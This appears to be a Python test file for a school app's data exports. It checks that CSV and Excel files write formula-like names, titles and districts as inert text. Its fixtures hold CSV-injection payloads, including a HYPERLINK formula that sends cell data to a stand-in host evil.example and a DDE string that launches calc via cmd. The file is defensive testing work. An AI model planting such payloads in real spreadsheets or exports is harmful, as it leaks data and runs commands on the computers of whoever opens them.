"""Names, answers and titles that look like spreadsheet formulas are written as text into
every CSV and XLSX export (OWASP's CSV-injection rules); numbers and dates stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from handlers.context import Context
from handlers.features import WIRING
from handlers.reports.figures import regional_files
from locales import translator
from storage.models import Partner, Person, School, Trial
from storage.reads.journal import Journal

from .demo_school import COORDINATOR, PUPILS
from .test_export import held

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
PUPIL = "+SUM(1;2)"
EVALUATION = "-2+3+cmd|' /C calc'!A0"
SECTOR = "@SUM(A1:A9)"
DISTRICT = "\t=1+1"
STARTS = ("=", "+", "-", "@", "\t", "\r")


def live(text: str) -> bool:
    """What a spreadsheet would run: a formula start that is not just a signed number."""
    if not text.startswith(STARTS):
        return False
    try:
        float(text.replace(",", "."))
        return False
    except ValueError:
        return True


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
            for c in row]


async def poisoned(h, demo) -> None:
    """The demo school, held, with a formula in every kind of user-written field."""
    trial = await held(h, demo)
    async with h.db() as session:
        stored = await session.get(Trial, trial.id)
        assert stored is not None
        stored.title, stored.teacher_evaluation = TITLE, EVALUATION
        pupil = await session.get(Person, demo.id(PUPILS[0]))
        assert pupil is not None
        pupil.full_name = PUPIL
        for partner in await session.scalars(select(Partner)):
            partner.sector = SECTOR
        school = await session.get(School, demo.school_id)
        assert school is not None
        school.district = DISTRICT


async def test_every_chat_export_writes_formulas_as_text_and_numbers_as_numbers(h, demo):
    await poisoned(h, demo)
    coordinator = await demo.join(COORDINATOR, lang="en")
    await coordinator.taps("Journal and reports")
    journal_csv = (await coordinator.taps("Journal (CSV)"))[-1].file_bytes or b""
    journal_xlsx = (await coordinator.taps("Journal (Excel)"))[-1].file_bytes or b""
    targets_xlsx = (await coordinator.taps("Targets of the year"))[-1].file_bytes or b""

    cells = csv_cells(journal_csv)
    assert not [c for c in cells if live(c)]
    assert "'" + TITLE in cells  # kept, readable, inert
    assert any(c.startswith("'" + EVALUATION[:5]) or EVALUATION in c for c in cells)

    for data in (journal_xlsx, targets_xlsx):
        book = load_workbook(io.BytesIO(data))
        seen = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in seen if c.data_type == "f"]
        risky = [c for c in seen if isinstance(c.value, str) and live(c.value)]
        assert risky and all(c.quotePrefix for c in risky)  # shown as typed, never run
    journal = load_workbook(io.BytesIO(journal_xlsx)).active
    assert journal is not None
    assert journal["B2"].value == TITLE and isinstance(journal["A2"].value, int)
    targets = load_workbook(io.BytesIO(targets_xlsx))
    pupils = targets.worksheets[1]
    names = {row[0].value: row for row in pupils.iter_rows(min_row=2)}
    assert PUPIL in names and isinstance(names[PUPIL][2].value, int)  # contacts: a number
    classes = targets.worksheets[0]
    assert isinstance(classes["B2"].value, int)  # the grade
    checks = targets.worksheets[2]
    assert any(isinstance(c.value, str) and c.value.startswith("=") and c.quotePrefix
               for row in checks.iter_rows(min_row=2) for c in row)


async def test_the_regional_files_write_a_formula_like_district_or_sector_as_text(h, demo):
    await poisoned(h, demo)
    async with h.db() as session:
        ctx = Context(session=session, wiring=WIRING, now=h.now, config=h.config)
        files = await regional_files(Journal(session), None, None, ctx.now, translator("en"))
    for data in (files.figures, files.districts):
        cells = csv_cells(data)
        assert not [c for c in cells if live(c)]
    districts = csv_cells(files.districts)
    assert "'" + DISTRICT in districts
    assert any(c.startswith("'" + SECTOR) for c in districts)
